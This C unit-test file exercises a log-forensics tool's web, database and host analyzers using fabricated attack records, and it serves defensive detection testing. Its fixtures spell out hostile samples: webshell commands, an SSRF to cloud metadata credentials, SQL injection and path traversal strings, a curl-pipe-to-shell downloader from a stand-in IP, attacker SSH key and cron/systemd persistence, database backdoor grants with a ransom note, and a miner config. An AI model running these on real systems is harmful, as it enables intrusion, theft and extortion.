/* Unit tests of the web, database and host analyzers: records written through the store's
 * sink (as a parser would), then ks_analyze_case. Names, addresses and statements here are
 * made up for the tests; the analyzers know none of them. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "analysis/analyze.h"
#include "core/time.h"
#include "ktest.h"

#define T0 (1795000000LL * KS_NS_PER_SEC)
#define MIN (60LL * KS_NS_PER_SEC)
#define DAY (86400LL * KS_NS_PER_SEC)

static const ks_column web_cols[] = {
    {"client_ip", KS_COL_TEXT, ""}, {"method", KS_COL_TEXT, ""}, {"path", KS_COL_TEXT, ""},
    {"query", KS_COL_TEXT, ""},     {"url", KS_COL_TEXT, ""},    {"status", KS_COL_INT, ""},
    {"user_agent", KS_COL_TEXT, ""},
};
static const ks_table_def web_table = {"web_access", "fixture", web_cols, 7};

static const ks_column db_cols[] = {
    {"user", KS_COL_TEXT, ""}, {"host", KS_COL_TEXT, ""},    {"db", KS_COL_TEXT, ""},
    {"sql", KS_COL_TEXT, ""},  {"objects", KS_COL_TEXT, ""},
};
static const ks_table_def db_table = {"db_log", "fixture", db_cols, 5};

typedef struct fx {
    ks_store *st;
    ks_sink *sink;
    int64_t line;
    ks_err err;
} fx;

static int fx_member(fx *x, const char *path, const char *source)
{
    if (x->sink && ks_store_member_end(x->st, x->sink, "parsed", NULL, &x->err))
        return -1;
    x->sink = NULL;
    x->line = 0;
    ks_evidence_info info = {path, path, NULL, path, 1, ""};
    return ks_store_member_begin(x->st, &info, source, &x->sink, &x->err);
}

static int web(fx *x, int64_t t, const char *ip, const char *method, const char *path,
               const char *query, int status, const char *ua)
{
    ks_event ev;
    ks_event_init(&ev);
    ev.time = t;
    ev.time_desc = "event";
    ev.src_ip = ks_str_c(ip);
    ev.line = ++x->line;
    char url[2048];
    snprintf(url, sizeof url, "%s%s%s", path, query ? "?" : "", query ? query : "");
    ks_val v[7] = {ks_v_text(ks_str_c(ip)),   ks_v_text(ks_str_c(method)),
                   ks_v_text(ks_str_c(path)), ks_v_text(ks_str_c(query)),
                   ks_v_text(ks_str_c(url)),  ks_v_int(status),
                   ks_v_text(ks_str_c(ua))};
    return ks_sink_event(x->sink, &ev, &web_table, v, &x->err);
}

static int dbq(fx *x, int64_t t, const char *user, const char *host, const char *db,
               const char *sql, const char *objects)
{
    ks_event ev;
    ks_event_init(&ev);
    ev.time = t;
    ev.time_desc = "event";
    ev.line = ++x->line;
    ks_val v[5] = {ks_v_text(ks_str_c(user)), ks_v_text(ks_str_c(host)), ks_v_text(ks_str_c(db)),
                   ks_v_text(ks_str_c(sql)), ks_v_text(ks_str_c(objects))};
    return ks_sink_event(x->sink, &ev, &db_table, v, &x->err);
}

static int hev(fx *x, int64_t t, const char *host, const char *action, const char *actor,
               const char *ip, const char *target, const char *message)
{
    ks_event ev;
    ks_event_init(&ev);
    ev.time = t;
    ev.time_desc = "event";
    ev.host = ks_str_c(host);
    ev.action = ks_str_c(action);
    ev.actor = ks_str_c(actor);
    ev.src_ip = ks_str_c(ip);
    ev.target = ks_str_c(target);
    ev.message = ks_str_c(message);
    ev.raw = ks_str_c(message ? message : target);
    ev.line = ++x->line;
    return ks_sink_event(x->sink, &ev, NULL, NULL, &x->err);
}

static int fx_done(fx *x, ks_findings *fs)
{
    if (x->sink && ks_store_member_end(x->st, x->sink, "parsed", NULL, &x->err))
        return -1;
    x->sink = NULL;
    if (ks_store_commit(x->st, &x->err))
        return -1;
    ks_findings_init(fs);
    return ks_analyze_case(x->st, KS_TIME_NONE, KS_TIME_NONE, fs, &x->err);
}

/* Highest severity of the analyzer's findings, -1 when none. */
static int sev_of(const ks_findings *fs, const char *analyzer)
{
    int best = -1;
    for (size_t i = 0; i < fs->n; i++)
        if (!strcmp(fs->v[i]->analyzer, analyzer) && (int)fs->v[i]->sev > best)
            best = (int)fs->v[i]->sev;
    return best;
}

static const ks_finding *find(const ks_findings *fs, const char *analyzer)
{
    for (size_t i = 0; i < fs->n; i++)
        if (!strcmp(fs->v[i]->analyzer, analyzer))
            return fs->v[i];
    return NULL;
}

static int max_sev(const ks_findings *fs)
{
    int best = -1;
    for (size_t i = 0; i < fs->n; i++)
        if ((int)fs->v[i]->sev > best)
            best = (int)fs->v[i]->sev;
    return best;
}

static const char *const k_browser = "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0";

/* Three days of ordinary traffic: health checks, shoppers, a crawler. */
static int web_noise(fx *x)
{
    int rc = 0;
    for (int i = 0; i < 72 * 6 && !rc; i++) {
        int64_t t = T0 + i * 10 * MIN;
        char ip[32], q[64];
        snprintf(ip, sizeof ip, "198.18.%d.%d", i % 7, 10 + i % 50);
        snprintf(q, sizeof q, "id=%d", i % 40);
        rc = web(x, t, "10.0.0.2", "GET", "/health", NULL, 200, "ELB-HealthChecker/2.0") ||
             web(x, t + MIN, ip, "GET", "/products", q, 200, k_browser) ||
             web(x, t + 2 * MIN, ip, "GET", "/static/app.js", NULL, 200, k_browser) ||
             web(x, t + 3 * MIN, ip, "POST", "/cart", NULL, 302, k_browser) ||
             web(x, t + 4 * MIN, ip, "GET", "/search", "q=select+a+size+or+colour", 200,
                 k_browser) ||
             (i % 9 == 0 && web(x, t + 5 * MIN, "66.249.66.1", "GET", "/robots.txt", NULL, 404,
                                "Mozilla/5.0 (compatible; Googlebot/2.1)"));
    }
    return rc;
}

KTEST(test_web_benign_traffic_gives_nothing_above_low)
{
    fx x = {0};
    ks_findings fs;
    KT_REQUIRE(ks_store_open_memory(&x.st, &x.err) == 0);
    KT_REQUIRE(fx_member(&x, "access.log", "web_access") == 0);
    KT_REQUIRE(web_noise(&x) == 0);
    KT_REQUIRE(fx_done(&x, &fs) == 0);
    KT_CHECK(max_sev(&fs) <= KS_SEV_LOW);
    ks_findings_free(&fs);
    ks_store_close(x.st);
}

KTEST(test_web_shell_upload_commands_and_metadata_ssrf)
{
    fx x = {0};
    ks_findings fs;
    const char *atk = "203.0.113.66";
    int64_t t = T0 + 2 * DAY + 6 * 3600 * KS_NS_PER_SEC;
    KT_REQUIRE(ks_store_open_memory(&x.st, &x.err) == 0);
    KT_REQUIRE(fx_member(&x, "access.log", "web_access") == 0);
    KT_REQUIRE(web_noise(&x) == 0);
    KT_REQUIRE(web(&x, t, atk, "POST", "/profile/avatar", NULL, 200, k_browser) == 0);
    KT_REQUIRE(web(&x, t + MIN, atk, "GET", "/uploads/avatars/Img_4.php", "cmd=id", 200,
                   k_browser) == 0);
    KT_REQUIRE(web(&x, t + 2 * MIN, atk, "GET", "/uploads/avatars/Img_4.php",
                   "c=Y2F0IC9ldGMvcGFzc3dk", 200, k_browser) == 0); /* base64 of cat /etc/passwd */
    KT_REQUIRE(web(&x, t + 3 * MIN, atk, "GET", "/preview",
                   "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F"
                   "security-credentials%2FWebAppRole", 200, k_browser) == 0);
    KT_REQUIRE(web(&x, t + 4 * MIN, atk, "GET", "/products",
                   "id=1%27%20UNION%2F%2A%2A%2FSELECT%20user,password%20FROM%20users--", 500,
                   "sqlmap/1.7.2") == 0);
    KT_REQUIRE(web(&x, t + 5 * MIN, atk, "GET", "/download", "file=..%2F..%2F..%2Fetc%2Fpasswd",
                   200, k_browser) == 0);
    KT_REQUIRE(fx_done(&x, &fs) == 0);
    KT_EQ_INT(sev_of(&fs, "web_upload_exec"), KS_SEV_HIGH);
    const ks_finding *up = find(&fs, "web_upload_exec");
    KT_REQUIRE(up);
    KT_CHECK(ks_finding_has_entity(up, KS_ENT_FILE, "/uploads/avatars/Img_4.php"));
    KT_CHECK(ks_finding_has_entity(up, KS_ENT_IP, atk));
    KT_EQ_INT(sev_of(&fs, "webshell_cmd"), KS_SEV_CRITICAL);
    KT_EQ_INT(find(&fs, "webshell_cmd")->nrefs, 2); /* plain and base64 commands */
    KT_EQ_INT(sev_of(&fs, "ssrf_metadata"), KS_SEV_CRITICAL);
    KT_CHECK(ks_finding_has_entity(find(&fs, "ssrf_metadata"), KS_ENT_RESOURCE, "WebAppRole"));
    KT_EQ_INT(sev_of(&fs, "sqli"), KS_SEV_MEDIUM);
    KT_EQ_INT(sev_of(&fs, "path_traversal"), KS_SEV_HIGH);
    KT_EQ_INT(sev_of(&fs, "web_scanner"), KS_SEV_LOW);
    ks_findings_free(&fs);
    ks_store_close(x.st);
}

KTEST(test_web_scanner_burst_of_errors_is_low)
{
    fx x = {0};
    ks_findings fs;
    KT_REQUIRE(ks_store_open_memory(&x.st, &x.err) == 0);
    KT_REQUIRE(fx_member(&x, "access.log", "web_access") == 0);
    for (int i = 0; i < 80; i++) {
        char p[64];
        snprintf(p, sizeof p, "/backup%d.zip", i);
        KT_REQUIRE(web(&x, T0 + i * KS_NS_PER_SEC, "192.0.2.77", "GET", p, NULL, 404, k_browser) == 0);
    }
    KT_REQUIRE(fx_done(&x, &fs) == 0);
    KT_EQ_INT(sev_of(&fs, "web_scanner"), KS_SEV_LOW);
    KT_EQ_INT(max_sev(&fs), KS_SEV_LOW);
    ks_findings_free(&fs);
    ks_store_close(x.st);
}

static int db_noise(fx *x)
{
    int rc = 0;
    for (int i = 0; i < 72 * 4 && !rc; i++) {
        int64_t t = T0 + i * 15 * MIN;
        rc = dbq(x, t, "shopapp", "10.0.1.5", "shop", "SELECT id, name, price FROM products WHERE id = 7",
                 "read:shop.products") ||
             dbq(x, t + MIN, "shopapp", "10.0.1.5", "shop",
                 "SELECT id, email FROM customers WHERE id = 42", "read:shop.customers") ||
             dbq(x, t + 2 * MIN, "shopapp", "10.0.1.5", "shop",
                 "INSERT INTO orders (customer_id, total) VALUES (42, 9.5)", "write:shop.orders");
    }
    /* a DBA's interactive session from an admin host */
    if (!rc)
        rc = dbq(x, T0 + 2 * DAY, "dba", "10.0.9.9", "", "select @@version_comment limit 1", "") ||
             dbq(x, T0 + 2 * DAY + MIN, "dba", "10.0.9.9", "shop", "SHOW TABLES", "");
    return rc;
}

KTEST(test_db_benign_application_and_dba_give_nothing_above_low)
{
    fx x = {0};
    ks_findings fs;
    KT_REQUIRE(ks_store_open_memory(&x.st, &x.err) == 0);
    KT_REQUIRE(fx_member(&x, "audit.log", "mariadb_audit") == 0);
    KT_REQUIRE(db_noise(&x) == 0);
    KT_REQUIRE(fx_done(&x, &fs) == 0);
    KT_CHECK(max_sev(&fs) <= KS_SEV_LOW);
    KT_EQ_INT(sev_of(&fs, "db_cli_client"), KS_SEV_LOW);
    ks_findings_free(&fs);
    ks_store_close(x.st);
}

KTEST(test_db_attack_stages_each_found)
{
    fx x = {0};
    ks_findings fs;
    int64_t t = T0 + 2 * DAY + 3600 * KS_NS_PER_SEC;
    const char *h = "10.0.1.5", *u = "shopapp";
    KT_REQUIRE(ks_store_open_memory(&x.st, &x.err) == 0);
    KT_REQUIRE(fx_member(&x, "audit.log", "mariadb_audit") == 0);
    KT_REQUIRE(db_noise(&x) == 0);
    KT_REQUIRE(dbq(&x, t, u, h, "", "select @@version_comment limit 1", "") == 0);
    KT_REQUIRE(dbq(&x, t + 1, u, h, "shop",
                   "SELECT table_schema, table_name FROM information_schema.tables",
                   "read:information_schema.tables") == 0);
    KT_REQUIRE(dbq(&x, t + 2, u, h, "shop", "SELECT * FROM customers", "read:shop.customers") == 0);
    KT_REQUIRE(dbq(&x, t + 3, u, h, "hr", "SELECT * FROM hr.payroll LIMIT 10", "read:hr.payroll") == 0);
    KT_REQUIRE(dbq(&x, t + 4, u, h, "shop", "SELECT LOAD_FILE('/etc/passwd')", "") == 0);
    KT_REQUIRE(dbq(&x, t + 5, u, h, "", "CREATE USER 'sync'@'%' IDENTIFIED BY 'pw'", "") == 0);
    KT_REQUIRE(dbq(&x, t + 6, u, h, "", "GRANT ALL PRIVILEGES ON *.* TO 'sync'@'%' WITH GRANT OPTION", "") == 0);
    KT_REQUIRE(dbq(&x, t + 7, u, h, "shop", "DROP TABLE customers", "drop:shop.customers") == 0);
    KT_REQUIRE(dbq(&x, t + 8, u, h, "shop", "CREATE TABLE `README_TO_RECOVER` (note TEXT)",
                   "create:shop.README_TO_RECOVER") == 0);
    KT_REQUIRE(dbq(&x, t + 9, u, h, "shop",
                   "INSERT INTO README_TO_RECOVER VALUES ('Send 0.5 BTC to recover your data')",
                   "write:shop.README_TO_RECOVER") == 0);
    KT_REQUIRE(fx_done(&x, &fs) == 0);
    KT_EQ_INT(sev_of(&fs, "db_cli_client"), KS_SEV_HIGH);
    KT_EQ_INT(sev_of(&fs, "db_enum"), KS_SEV_MEDIUM);
    KT_EQ_INT(sev_of(&fs, "db_bulk_read"), KS_SEV_HIGH);
    KT_CHECK(ks_finding_has_entity(find(&fs, "db_bulk_read"), KS_ENT_DB_OBJECT, "shop.customers"));
    KT_EQ_INT(sev_of(&fs, "db_unused_schema"), KS_SEV_MEDIUM);
    KT_EQ_INT(sev_of(&fs, "db_file_io"), KS_SEV_HIGH);
    KT_EQ_INT(sev_of(&fs, "db_accounts"), KS_SEV_HIGH);
    KT_CHECK(strstr(find(&fs, "db_accounts")->title, "sync") != NULL);
    KT_EQ_INT(sev_of(&fs, "db_destruction"), KS_SEV_HIGH);
    KT_EQ_INT(sev_of(&fs, "db_ransom"), KS_SEV_CRITICAL);
    KT_CHECK(ks_finding_has_entity(find(&fs, "db_ransom"), KS_ENT_USER, u));
    KT_CHECK(ks_finding_has_entity(find(&fs, "db_ransom"), KS_ENT_IP, h));
    ks_findings_free(&fs);
    ks_store_close(x.st);
}

static int host_noise(fx *x)
{
    int rc = fx_member(x, "auth.log", "syslog");
    for (int i = 0; i < 30 && !rc; i++)
        rc = hev(x, T0 + i * 3600 * KS_NS_PER_SEC, "web-1", "ssh_login", "ops", "10.0.9.9", "ops",
                 "Accepted publickey for ops from 10.0.9.9 port 50022 ssh2") ||
             hev(x, T0 + i * 3600 * KS_NS_PER_SEC + MIN, "web-1", "sudo", "ops", NULL,
                 "/usr/bin/systemctl restart nginx", NULL);
    /* a few typos: not a brute force */
    for (int i = 0; i < 3 && !rc; i++)
        rc = hev(x, T0 + DAY + i * MIN, "web-1", "ssh_login_failed", "ops", "10.0.9.9", "ops",
                 "Failed password for ops from 10.0.9.9 port 50022 ssh2");
    if (!rc)
        rc = fx_member(x, "root.bash_history", "shell_history");
    const char *cmds[] = {"ls -la", "sudo systemctl restart nginx", "tail -f /var/log/nginx/error.log",
                          "wget -O /tmp/node.tar.gz https://nodejs.org/dist/node.tar.gz",
                          "tar xzf /tmp/node.tar.gz -C /opt", NULL};
    for (int i = 0; cmds[i] && !rc; i++)
        rc = hev(x, KS_TIME_NONE, "web-1", "shell_command", "root", NULL, cmds[i], NULL);
    if (!rc)
        rc = fx_member(x, "crontab", "crontab") ||
             hev(x, KS_TIME_NONE, "web-1", "cron_entry", "root", NULL, "/usr/local/bin/backup.sh",
                 "0 3 * * * /usr/local/bin/backup.sh");
    if (!rc)
        rc = fx_member(x, "nginx.service", "systemd_unit") ||
             hev(x, KS_TIME_NONE, "web-1", "systemd_unit", "", NULL, "nginx.service",
                 "ExecStart=/usr/sbin/nginx -g 'daemon on;'");
    return rc;
}

KTEST(test_host_benign_admin_work_gives_nothing_above_low)
{
    fx x = {0};
    ks_findings fs;
    KT_REQUIRE(ks_store_open_memory(&x.st, &x.err) == 0);
    KT_REQUIRE(host_noise(&x) == 0);
    KT_REQUIRE(fx_done(&x, &fs) == 0);
    KT_CHECK(max_sev(&fs) <= KS_SEV_LOW);
    KT_EQ_INT(fs.n, 0);
    ks_findings_free(&fs);
    ks_store_close(x.st);
}

KTEST(test_host_persistence_miner_dropper_bruteforce_and_keys)
{
    fx x = {0};
    ks_findings fs;
    const char *atk = "203.0.113.80";
    KT_REQUIRE(ks_store_open_memory(&x.st, &x.err) == 0);
    KT_REQUIRE(host_noise(&x) == 0);
    KT_REQUIRE(fx_member(&x, "auth.log.1", "syslog") == 0);
    for (int i = 0; i < 12; i++)
        KT_REQUIRE(hev(&x, T0 + 2 * DAY + i * KS_NS_PER_SEC, "web-1", "ssh_login_failed", "", atk,
                       "admin", "Failed password for admin") == 0);
    KT_REQUIRE(hev(&x, T0 + 2 * DAY + MIN, "web-1", "ssh_login", "", atk, "admin",
                   "Accepted password for admin") == 0);
    KT_REQUIRE(fx_member(&x, "www.bash_history", "shell_history") == 0);
    const char *cmds[] = {"curl -fsSL http://198.51.100.23/m.sh | sh",
                          "wget -q http://198.51.100.23/kworker -O /dev/shm/.X11/kw",
                          "chmod +x /dev/shm/.X11/kw",
                          "echo ssh-ed25519 AAAAC3Nza attacker >> /root/.ssh/authorized_keys",
                          NULL};
    for (int i = 0; cmds[i]; i++)
        KT_REQUIRE(hev(&x, KS_TIME_NONE, "web-1", "shell_command", "www-data", NULL, cmds[i], NULL) == 0);
    KT_REQUIRE(fx_member(&x, "crontab.www", "crontab") == 0);
    KT_REQUIRE(hev(&x, KS_TIME_NONE, "web-1", "cron_entry", "www-data", NULL,
                   "curl -s http://198.51.100.23/m.sh | bash",
                   "*/5 * * * * curl -s http://198.51.100.23/m.sh | bash") == 0);
    KT_REQUIRE(fx_member(&x, "kworker.service", "systemd_unit") == 0);
    KT_REQUIRE(hev(&x, KS_TIME_NONE, "web-1", "systemd_unit", "", NULL, "kworker.service",
                   "ExecStart=/dev/shm/.kw -c /dev/shm/.cfg") == 0);
    KT_REQUIRE(fx_member(&x, "config.json", "miner_config") == 0);
    KT_REQUIRE(hev(&x, KS_TIME_NONE, "web-1", "", "", NULL, NULL,
                   "{\"pools\": [{\"url\": \"stratum+tcp://xmr.pool-example.net:3333\"}], "
                   "\"donate-level\": 1}") == 0);
    KT_REQUIRE(fx_done(&x, &fs) == 0);
    KT_EQ_INT(sev_of(&fs, "ssh_bruteforce"), KS_SEV_CRITICAL);
    KT_CHECK(ks_finding_has_entity(find(&fs, "ssh_bruteforce"), KS_ENT_IP, atk));
    KT_EQ_INT(sev_of(&fs, "host_download_exec"), KS_SEV_HIGH);
    int staged = 0, piped = 0;
    for (size_t i = 0; i < fs.n; i++) {
        if (strcmp(fs.v[i]->analyzer, "host_download_exec"))
            continue;
        staged += ks_finding_has_entity(fs.v[i], KS_ENT_FILE, "/dev/shm/.X11/kw"); /* as written */
        piped += ks_finding_has_entity(fs.v[i], KS_ENT_IP, "198.51.100.23");
    }
    KT_EQ_INT(staged, 1);
    KT_CHECK(piped >= 1);
    KT_EQ_INT(sev_of(&fs, "host_persistence"), KS_SEV_HIGH);
    int pers = 0;
    for (size_t i = 0; i < fs.n; i++)
        pers += !strcmp(fs.v[i]->analyzer, "host_persistence");
    KT_EQ_INT(pers, 2); /* cron and systemd */
    KT_EQ_INT(sev_of(&fs, "host_miner"), KS_SEV_HIGH);
    KT_CHECK(ks_finding_has_entity(find(&fs, "host_miner"), KS_ENT_DOMAIN, "xmr.pool-example.net"));
    KT_EQ_INT(sev_of(&fs, "host_accounts"), KS_SEV_HIGH);
    ks_findings_free(&fs);
    ks_store_close(x.st);
}

/* A pool given as an IPv6 literal is that address, not "[2001". */
KTEST(test_host_miner_pool_ipv6_literal_is_an_ip_entity)
{
    fx x = {0};
    ks_findings fs;
    KT_REQUIRE(ks_store_open_memory(&x.st, &x.err) == 0);
    KT_REQUIRE(host_noise(&x) == 0);
    KT_REQUIRE(fx_member(&x, "www.bash_history", "shell_history") == 0);
    KT_REQUIRE(hev(&x, T0 + DAY, "web-1", "shell_command", "www-data", NULL,
                   "./xmrig -o stratum+tcp://[2001:db8::9]:3333 -u w",
                   "./xmrig -o stratum+tcp://[2001:db8::9]:3333 -u w") == 0);
    KT_REQUIRE(fx_done(&x, &fs) == 0);
    const ks_finding *f = find(&fs, "host_miner");
    KT_REQUIRE(f != NULL);
    KT_CHECK(ks_finding_has_entity(f, KS_ENT_IP, "2001:db8::9"));
    ks_findings_free(&fs);
    ks_store_close(x.st);
}

KTEST(test_host_miner_config_finding_names_pool_wallet_and_links_each_pool)
{
    fx x = {0};
    ks_findings fs;
    KT_REQUIRE(ks_store_open_memory(&x.st, &x.err) == 0);
    KT_REQUIRE(host_noise(&x) == 0);
    KT_REQUIRE(fx_member(&x, "img@1:/var/tmp/.x/config.json", "miner_config") == 0);
    KT_REQUIRE(hev(&x, T0 + DAY, "web-1", "miner_pool", "4Wallet111", NULL,
                   "stratum+tcp://xmr.pool-example.net:3333",
                   "xmrig pool stratum+tcp://xmr.pool-example.net:3333 user 4Wallet111") == 0);
    KT_REQUIRE(hev(&x, T0 + DAY, "web-1", "miner_pool", "4Wallet111", NULL, "[2001:db8::7]:443",
                   "xmrig pool [2001:db8::7]:443 user 4Wallet111") == 0);
    KT_REQUIRE(fx_done(&x, &fs) == 0);
    KT_EQ_INT(sev_of(&fs, "host_miner_config"), KS_SEV_HIGH);
    const ks_finding *f = find(&fs, "host_miner_config");
    KT_REQUIRE(f != NULL);
    KT_CHECK(ks_finding_has_entity(f, KS_ENT_DOMAIN, "xmr.pool-example.net"));
    KT_CHECK(ks_finding_has_entity(f, KS_ENT_IP, "2001:db8::7"));
    KT_CHECK(ks_finding_has_entity(f, KS_ENT_RESOURCE, "4Wallet111"));
    KT_CHECK(strstr(f->title, "4Wallet111") != NULL);
    KT_EQ_INT((int64_t)f->nrefs, 2); /* one finding per file, each pool's event linked */
    int n = 0;
    for (size_t i = 0; i < fs.n; i++)
        n += !strcmp(fs.v[i]->analyzer, "host_miner_config");
    KT_EQ_INT(n, 1);
    ks_findings_free(&fs);
    ks_store_close(x.st);
}

KTEST(test_host_miner_config_needs_a_miner_config_record)
{
    fx x = {0};
    ks_findings fs;
    KT_REQUIRE(ks_store_open_memory(&x.st, &x.err) == 0);
    KT_REQUIRE(host_noise(&x) == 0);
    KT_REQUIRE(fx_member(&x, "www.bash_history", "shell_history") == 0);
    KT_REQUIRE(hev(&x, KS_TIME_NONE, "web-1", "miner_pool", "w", NULL, "pool.example.net:3333", NULL) == 0);
    KT_REQUIRE(fx_done(&x, &fs) == 0);
    KT_CHECK(find(&fs, "host_miner_config") == NULL);
    ks_findings_free(&fs);
    ks_store_close(x.st);
}
